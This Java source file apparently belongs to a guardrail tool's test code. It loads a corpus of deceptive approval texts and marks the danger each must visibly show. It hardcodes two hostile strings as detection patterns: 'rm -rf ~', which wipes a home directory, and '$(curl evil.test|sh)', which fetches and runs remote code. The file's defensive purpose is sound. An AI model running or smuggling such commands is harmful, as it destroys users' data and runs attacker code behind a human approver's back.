package dev.guardrail.server.sheet;

import dev.guardrail.base.JsonObject;
import dev.guardrail.base.StrictJson;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.Stream;

/// One hostile text: what is in it that somebody has to see.
///
/// @param danger ASCII that must be seen where the middle is not left out; empty for none in particular
/// @param looks what a look-alike must be said to look like; empty for none in particular
public record Deception(String name, String text, String danger, String looks) {

    /// Lines of the shared corpus, and those beside it.
    public static List<Deception> all() throws IOException {
        return Stream.concat(read("approval-deception.jsonl").stream(), read("deception-more.jsonl").stream())
                .toList();
    }

    private static List<Deception> read(String file) throws IOException {
        try (var corpus = Deception.class.getResourceAsStream("/corpora/" + file)) {
            if (corpus == null) throw new IllegalStateException("no corpus " + file);
            return new String(corpus.readAllBytes(), StandardCharsets.UTF_8)
                    .lines()
                    .filter(line -> !line.isBlank())
                    .map(line -> (JsonObject) StrictJson.parse(line.getBytes(StandardCharsets.UTF_8)))
                    .map(Deception::of)
                    .toList();
        }
    }

    private static Deception of(JsonObject line) {
        String text = line.text("arg").orElseThrow();
        String danger = Stream.of("rm -rf ~", "$(curl evil.test|sh)")
                .filter(text::contains)
                .findFirst()
                .orElse("");
        return new Deception(
                line.text("name").orElseThrow(),
                text,
                line.text("danger").orElse(danger),
                line.text("looks").orElse(""));
    }

    @Override
    public String toString() {
        return name;
    }
}
